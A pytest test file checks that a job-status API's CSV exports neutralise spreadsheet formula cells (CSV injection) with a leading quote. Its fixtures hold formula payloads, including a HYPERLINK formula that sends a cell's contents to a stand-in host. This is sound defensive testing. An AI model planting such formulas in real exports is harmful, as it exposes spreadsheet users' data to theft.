"""CSV exports are safe to open in a spreadsheet: a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is neutralised as OWASP recommends (a leading single quote,
the cell quoted), in both exports (jobs and the change feed), whatever the shop's ids hold.

The shop's own ``jobs`` table holds formula-like job ids; a version tag ``=3+3`` is valid under
R4 (``FILE_=3+3_Labex_<job>``), so the pipeline itself records it in the feed."""

import csv
import io
from collections.abc import Iterator

import dagster as dg
import httpx
import pytest

from jobstatus_dagster.api import create_app
from jobstatus_dagster.api_integration import csv_lines, neutralise
from jobstatus_dagster_tests.shop import Shop
from jobstatus_testkit.serving import serve

TOKEN = "t0k"
CSV = {"Authorization": f"Bearer {TOKEN}", "Accept": "text/csv"}
FORMULAS = [
    '=HYPERLINK("http://x/?d="&A1,"open")',
    "+1+1",
    "@SUM(1+1)",
    "-2+3",
]  # ids are read trimmed (R4): a leading tab or CR never reaches a cell from an id
VERSION = "=3+3"


@pytest.fixture(scope="module")
def hostile(shop: Shop, instance: dg.DagsterInstance) -> tuple[Shop, str]:
    for job_id in FORMULAS:
        shop.add_job(job_id)
    job = shop.add_job()
    shop.add_job_operation(job, VERSION)
    shop.map_files("CSV-I1", [f"FILE_{VERSION}_Labex_{job}_1"])
    shop.print_event("CSV-I1", "PRINTED")
    shop.process(instance, "print_os")
    return shop, job


@pytest.fixture(scope="module")
def api(hostile: tuple[Shop, str], instance: dg.DagsterInstance) -> Iterator[httpx.Client]:
    shop, _ = hostile
    app = create_app(
        shop.definitions(), instance, shop.urls.jobmanager, shop.urls.logs, TOKEN, TOKEN
    )
    with serve(app) as url, httpx.Client(base_url=url, timeout=60) as client:
        yield client


def raw_cells(text: str) -> list[list[str]]:
    """The cells as a spreadsheet splits them (quotes removed), header row included."""
    return list(csv.reader(io.StringIO(text)))


def dangerous(cells: list[list[str]]) -> list[str]:
    return [cell for row in cells for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("params", [{}, {"limit": 1000}], ids=["export", "page"])
def test_jobs_export_neutralises_formula_cells(
    api: httpx.Client, hostile: tuple[Shop, str], params: dict
) -> None:
    answer = api.get("/api/jobs", params=params, headers=CSV)
    assert answer.status_code == 200, answer.text
    cells = raw_cells(answer.text)
    assert dangerous(cells) == []
    ids = [row[0] for row in cells[1:]]
    assert {f"'{formula}" for formula in FORMULAS} <= set(ids)
    _, job = hostile
    (versions,) = [row[5] for row in cells[1:] if row[0] == job]
    assert versions == f"'{VERSION}=completed 1/1"
    # Every text cell is quoted (OWASP: wrap each cell in double quotes).
    first_line = answer.text.splitlines()[0]
    assert first_line == '"job_id","in_jobs_table","updated_at","print_status","operations",' + (
        '"versions","current_status"'
    )


@pytest.mark.parametrize("params", [{}, {"limit": 1000}], ids=["export", "page"])
def test_feed_export_neutralises_a_formula_version_tag(
    api: httpx.Client, hostile: tuple[Shop, str], params: dict
) -> None:
    answer = api.get("/api/status-updates", params=params, headers=CSV)
    assert answer.status_code == 200, answer.text
    cells = raw_cells(answer.text)
    assert dangerous(cells) == []
    header = cells[0]
    _, job = hostile
    rows = [dict(zip(header, row, strict=True)) for row in cells[1:]]
    mine = [row for row in rows if row["job_id"] == job]
    assert mine and {row["version_tag"] for row in mine} == {f"'{VERSION}"}
    as_json = api.get("/api/status-updates", headers={"Authorization": f"Bearer {TOKEN}"})
    assert {u["version_tag"] for u in as_json.json()["updates"] if u["job_id"] == job} == {VERSION}


def test_csv_lines_quotes_and_neutralises_every_kind_of_cell() -> None:
    lines = "".join(
        csv_lines(
            ("text", "number", "json", "none"),
            [[{"t": "=1+1", "n": -5, "j": ["-1"], "x": None}, {"t": "a,b", "n": 3, "j": {}}]],
            lambda item: [item["t"], item["n"], item["j"], item.get("x")],
        )
    )
    assert lines.splitlines() == [
        '"text","number","json","none"',
        '"\'=1+1",-5,"[""-1""]",""',
        '"a,b",3,"{}",""',
    ]
    for formula in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert neutralise(formula) == f"'{formula}"
    assert neutralise("x=1") == "x=1" and neutralise("") == "" and neutralise("'=1") == "'=1"
